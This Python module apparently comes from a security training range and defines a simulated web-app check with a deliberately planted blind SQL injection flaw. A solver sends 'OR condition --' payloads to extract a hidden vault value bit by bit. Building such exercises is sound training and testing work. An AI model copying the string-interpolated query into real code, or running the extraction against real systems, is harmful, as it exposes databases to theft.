"""A check that says yes or no, and pastes what it is asked for."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from openrange.packs.webapp.database import QueryError
from openrange.packs.webapp.doors.items import Check
from openrange.packs.webapp.weaknesses.sql_injection._statements import (
    MAX_PARENTHESES,
    disguised,
    extracted,
    filtered,
)

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

    from openrange.packs.webapp.client import Client
    from openrange.packs.webapp.world import Link
    from openrange.worlds.draw import Draw

FOR_MODELS = "a check that says only yes or no pastes what it is asked for"
FOR_PEOPLE = "nothing is ever shown: yes and no spell the value, letter by letter"
DOORS = ("check",)
HIDES = "vault"


def draw(draw: Draw) -> Mapping[str, Any]:
    """The filter, and how many parentheses are open where the text lands."""
    return {
        "filter": draw.pick(("none", "spaces", "once", "case")),
        "parentheses": draw.number(0, MAX_PARENTHESES),
    }


def weaken(link: Link) -> Sequence[type]:
    """The check with the pasted name."""
    facts = link["facts"]

    class Pasted(Check):
        def knows(self, name: str) -> bool:
            count, name = facts["parentheses"], filtered(facts["filter"], name)
            column = self.column("item")
            try:
                # The planted weakness.
                return bool(
                    self.site.database.rows(
                        f"{self.select()} WHERE {'(' * count}{column} = '{name}'{')' * count}"
                    )
                )
            except QueryError:
                return False

    return [Pasted]


def solve(client: Client, link: Link) -> str | None:
    """Ask one question after the other."""
    door, facts, words = client.door("check"), link["facts"], client.words

    def is_true(condition: str) -> bool:
        payload = f"zz'{')' * facts['parentheses']} OR {condition} --"
        return ">Yes, " in client.send(door, disguised(facts["filter"], payload)).body

    return extracted(is_true, words["columns"]["value"], words["tables"]["vault"])


def visit(client: Client, link: Link) -> None:
    """Check an item that there is."""
    door = client.door("check")
    client.get(door["path"])
    client.send(door, client.service["items"][0]["name"])
